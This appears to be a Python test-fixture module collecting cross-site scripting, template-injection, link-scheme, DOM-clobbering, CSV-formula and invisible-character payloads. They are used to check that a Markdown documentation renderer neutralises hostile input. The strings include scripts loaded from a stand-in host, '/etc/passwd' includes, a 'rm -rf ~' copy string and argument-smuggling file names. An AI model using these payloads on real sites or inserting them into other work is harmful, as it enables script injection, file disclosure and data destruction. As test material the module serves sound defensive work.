"""Texts that people write to make a reader's browser run, ask, navigate, or take one thing for another.

In each, `RUN` stands for a call that leaves a mark when it runs, and `OUT` for an address outside the site.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

OUT: Final = "https://evil.example/"
PRODUCT: Final = str(1337 * 7331)
"""What a template engine makes of the expression in TEMPLATES."""

SCRIPTS: Final = (
    "<script>RUN</script>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "</title><script>RUN</script>",
    "</textarea></style></noscript></template><script>RUN</script>",
    "</script><script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "<SCRIPT/SRC=//evil.example/s.js></SCRIPT>",
    "<script type=module>RUN</script>",
    "\u0000<script\u0000>RUN</script>",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e \\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "&lt;script&gt;RUN&lt;/script&gt; &#60;script&#62;RUN&#60;/script&#62;",
)
HANDLERS: Final = (
    "<img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    '" onmouseover="RUN" onfocus="RUN" autofocus tabindex="1" style="animation:x" onanimationstart="RUN" x="',
    "' onmouseover='RUN' onfocus='RUN' autofocus tabindex='1' x='",
    " onmouseover=RUN onfocus=RUN autofocus tabindex=1 ",
    "x/onload=RUN/onerror=RUN/",
    "`onmouseover=RUN`",
    "<svg onload=RUN>",
    "<body onload=RUN onpageshow=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<input autofocus onfocus=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<a onclick=RUN onpointerover=RUN>hover</a>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=RUN>x</p>",
)
FOREIGN: Final = (
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    "<math href='javascript:RUN'><mtext>x</mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
)
ELEMENTS: Final = (
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<object data='data:text/html,<script>opener.RUN</script>'></object>",
    "<embed src='OUTembed'>",
    "<meta http-equiv=refresh content='0;url=OUTrefresh'>",
    '"><meta http-equiv="refresh" content="0;url=OUTrefresh">',
    '0;url=OUTrefresh" http-equiv="refresh" x="',
    "<base href='OUT'>",
    "<form action='OUTform' id=location name=document$><input name=q autofocus><button>go</button></form>",
    "<button formaction='javascript:RUN'>go</button>",
    "<link rel=stylesheet href='OUTstyle.css'>",
    "<link rel=prefetch href='OUTprefetch'>",
    "<style>@import 'OUTimport.css'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;z-index:99;background:url(OUTcover)'>covered</p>",
    "<img src='OUTpicture.png' srcset='OUTset.png 2x'>",
    "<img src='//evil.example/relative.png'>",
    "<video src='OUTvideo' poster='OUTposter'></video>",
    "<audio src='OUTaudio' autoplay></audio>",
    "<table background='OUTtable'><td background='OUTcell'>x</td></table>",
    "<dialog open>covered</dialog>",
    "<frameset onload=RUN><frame src='OUTframe'></frameset>",
    "<portal src='OUTportal'></portal>",
)
CLOBBERS: Final = (
    "<a id=__config>x</a>",
    '<a id="__config" name="__config" href="x">{"base":"OUT"}</a>',
    "<img name=body><img name=querySelector><form name=forms></form>",
    "<input id=__drawer type=checkbox checked><input id=__search type=checkbox checked>",
    "<div id=hl-explorer data-src='OUTdata.json'></div><div id=hl-findings-list></div>",
    "<a id=document$>x</a><a id=headland>x</a><a id=mermaid>x</a><a id=location$>x</a>",
    "<div class='md-overlay md-dialog md-search' data-md-component=search>x</div>",
    "<div data-hl-search data-copy='rm -rf ~' class='hl-copy hl-search-button'>x</div>",
    "</p></div></div></article></div></div></main></div></body></html>",
    "<plaintext>",
    "<!--",
)
LINKS: Final = (
    "<a href='javascript:RUN'>x</a>",
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](&#106;avascript:RUN)",
    "[x](java&Tab;script&colon;RUN)",
    "<a href='java\tscr\nipt:RUN'>x</a>",
    "<a href='\u0001javascript:RUN'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href='data:text/html,<script>opener.RUN</script>' target=_blank>x</a>",
    "[x](vbscript:RUN)",
    "[x][r]\n\n[r]: javascript:RUN",
    "<javascript:RUN>",
    '[x](https://a.example "onmouseover=RUN")',
    '![x" onerror="RUN](a.png)',
    "![x](OUTmarkdown.png)",
    "[x](entity:javascript:RUN)",
    '[](entity:component:"><img/src=x/onerror=RUN>)',
    "[x](//evil.example/open)",
)
MARKDOWN: Final = (
    "# x {#__config onclick=RUN}",
    "text\n{: onclick=RUN style=position:fixed #__search .md-overlay }",
    "``` { .yaml onclick=RUN #__search }\na: 1\n```",
    '```python title="<img src=x onerror=RUN>"\nx = 1\n```',
    '=== "<img src=x onerror=RUN>"\n\n    x',
    '!!! note "<img src=x onerror=RUN>"\n\n    x',
    '*[HTML]: "><img src=x onerror=RUN>\n\nHTML',
    "x[^1]\n\n[^1]: <script>RUN</script>",
    '++"<img src=x onerror=RUN>"++',
    "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "<div markdown onclick=RUN>\n<img src=x onerror=RUN>\n</div>",
    "$$<img src=x onerror=RUN>$$",
    '--8<-- "/etc/passwd"',
    '```mermaid\ngraph LR\n  A["<img src=x onerror=RUN>"] --> B["<script>RUN</script>"]\n'
    '  click A href "javascript:RUN"\n  click B call RUN\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(OUTmermaid.css)'}}%%\n"
    'graph LR\n  A["<iframe srcdoc=\'<script>parent.RUN</script>\'>"] --> B@{icon: "<img src=x onerror=RUN>"}\n```',
    "```mermaid\nsequenceDiagram\n  participant A as <img src=x onerror=RUN>\n  A->>A: $$<img src=x onerror=RUN>$$\n"
    "  link A: x @ javascript:RUN\n```",
)
TEMPLATES: Final = (
    "{{1337*7331}} ${{ 1337*7331 }} {%print(1337*7331)%} #{1337*7331} ${1337*7331} <%= 1337*7331 %> @(1337*7331)",
    "{{ config.__class__.__init__.__globals__ }} {% include '/etc/passwd' %} {% raw %} {# x #}",
    "%(x)s %s {0.__class__} {} $text $$ \\1 \\g<0> %{HOME} $HOME `id`",
)
INVISIBLE: Final = (
    "invoice\u202egnp.exe",
    "a\u200bb\u2060c\ufeffd\u00ade",
    "\u2066isolated\u2069 \u061cmark \U000e0041tag",
    "\x1b[31mred\x07 \x00 \x7f \x85 \u2028line\u2029paragraph",
    "half \ud800 pair",
)
FORMULAS: Final = ('=HYPERLINK("OUTcsv")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "|calc")
LONG: Final = ("x" * 20_000, "w " * 10_000, "](" * 300, "<b>" * 300, "> " * 100 + "x", "*" * 500 + "x")

ALL: Final = (
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *FOREIGN,
    *ELEMENTS,
    *MARKDOWN,
    *TEMPLATES,
    *INVISIBLE,
    *FORMULAS,
    *CLOBBERS,
)
"""Every payload but the long ones."""

ALONE: Final = ("<plaintext>", "<!--", INVISIBLE[-1])
"""Those that would take the rest of a page of prose with them."""

FILE_NAMES: Final = (
    "<img src=x onerror=RUN>",
    '"><svg onload=RUN>',
    "' onmouseover='RUN",
    "{{1337*7331}}",
    "${{ 1337*7331 }}",
    "javascript:RUN",
    INVISIBLE[0],
    "a\u200bb\u2066c",
    "&lt;script&gt;RUN&lt;!--",
    "-rf --output=x",
    "=cmd+1",
    "n" * 180,
)
"""What a file may be called."""

ADDRESSES: Final = (
    "javascript:RUN",
    "JaVaScRiPt:RUN//https://a.example",
    "javascript://a.example/%0aRUN",
    "java\tscript:RUN",
    "\u0001javascript:RUN",
    "data:text/html,<script>opener.RUN</script>",
    "vbscript:RUN",
    'https://a.example/"><script>RUN</script>',
    "https://a.example/' onmouseover='RUN",
    "blob:https://a.example/RUN",
    "//evil.example/",
    'mailto:a@a.example?body="><script>RUN</script>',
)
"""For fields that ask for an address."""


@dataclass(slots=True)
class Marks:
    """Gives each place where a payload stands a number of its own, and remembers where that is."""

    places: list[str]

    def put(self, payload: str, place: str) -> str:
        """The payload with a call in it that names the place."""
        self.places.append(place)
        return payload.replace("RUN", f"hit({len(self.places) - 1})").replace("OUT", OUT)
